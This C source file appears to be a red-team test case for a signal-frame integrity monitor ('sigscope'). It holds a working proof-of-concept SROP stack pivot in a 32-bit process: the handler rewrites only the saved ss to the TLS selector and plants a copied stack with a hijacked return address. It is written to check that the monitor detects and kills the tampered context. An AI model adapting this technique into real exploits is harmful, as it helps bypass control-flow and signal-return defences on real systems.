/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_ss_tls_m32 (red team round 15, a1b_ia32_ss_tls): a stack pivot through the stack SEGMENT
 * of a 32-bit process. Its SIGUSR1 handler changes only ss in its own frame, to the thread's
 * TLS selector (the one in %gs: a flat 4 GiB writable segment whose base is the thread
 * pointer). esp, eip and every general register stay as the kernel saved them, so the pivot
 * rule saw the same esp; after the sigreturn every stack access lands at (tp + esp) mod 2^32,
 * where the program put a copy of its stack with the return address replaced: the pops and
 * `ret` of __kernel_vsyscall's landing pad go to mal_win.
 *
 * Why: ss was not a judged register ("the ABI rule's", which compares cs only). In a 32-bit
 * task its base moves every stack access: it is judged like the others now.
 *
 * Expected from sigscope: tampered_context high (changed: ss); under --enforce, SIGKILL before
 * mal_win runs. Built -m32 (the _m32 suffix); exit statuses as mal.h's.
 */
#define _GNU_SOURCE
#include <alloca.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <ucontext.h>
#include <unistd.h>

#include "mal32.h"

static const char *marker;
static unsigned tp_base;

/* The hijacked context, still on the shifted stack segment. */
__attribute__((noinline, used)) void mal_win(void)
{
	mal32_pwned(marker);
}

static void handler(int sig, siginfo_t *si, void *ucv)
{
	ucontext_t *uc = ucv;
	unsigned esp = uc->uc_mcontext.gregs[REG_ESP];
	unsigned char *code = (unsigned char *)uc->uc_mcontext.gregs[REG_EIP];
	unsigned gs, lin = tp_base + esp; /* mod 2^32 */
	int pops = 0;

	(void)sig;
	(void)si;
	__asm__ volatile("mov %%gs, %0" : "=r"(gs));
	memcpy((void *)lin, (void *)esp, 64);
	/* __kernel_vsyscall's landing pad: pop %ebp; pop %edx; pop %ecx; ret */
	while (pops < 8 && (code[pops] == 0x5d || code[pops] == 0x5a || code[pops] == 0x59))
		pops++;
	((unsigned *)lin)[pops] = (unsigned)mal_win;
	uc->uc_mcontext.gregs[REG_SS] = gs; /* the only change */
}

int main(void)
{
	struct sigaction sa;
	unsigned here;

	fprintf(stderr, "srop_ss_tls_m32: pid %d\n", (int)getpid());
	marker = getenv("MARKER");
	if (!marker)
		return 2;
	__asm__ volatile("mov %%gs:0, %0"
			 : "=r"(tp_base)); /* i386: %gs:0 holds the TCB's address */
	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = handler;
	sa.sa_flags = SA_SIGINFO;
	sigaction(SIGUSR1, &sa, 0);
	__asm__ volatile("mov %%esp, %0" : "=r"(here));
	/* An esp (moved down with alloca) whose shifted image falls in free address space. */
	for (unsigned off = 0x1000; off < 0x600000; off += 0x10000) {
		unsigned lo = (tp_base + here - off - 0x20000) & ~0xfffu;
		void *m = mmap((void *)lo, 0x40000, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
		volatile char *pad;

		if (m == MAP_FAILED)
			continue;
		pad = alloca(off);
		pad[0] = 1;
		raise(SIGUSR1);
		fprintf(stderr, "srop_ss_tls_m32: returned normally\n");
		return 3;
	}
	fprintf(stderr, "srop_ss_tls_m32: no free room for the shifted stack\n");
	return 3;
}
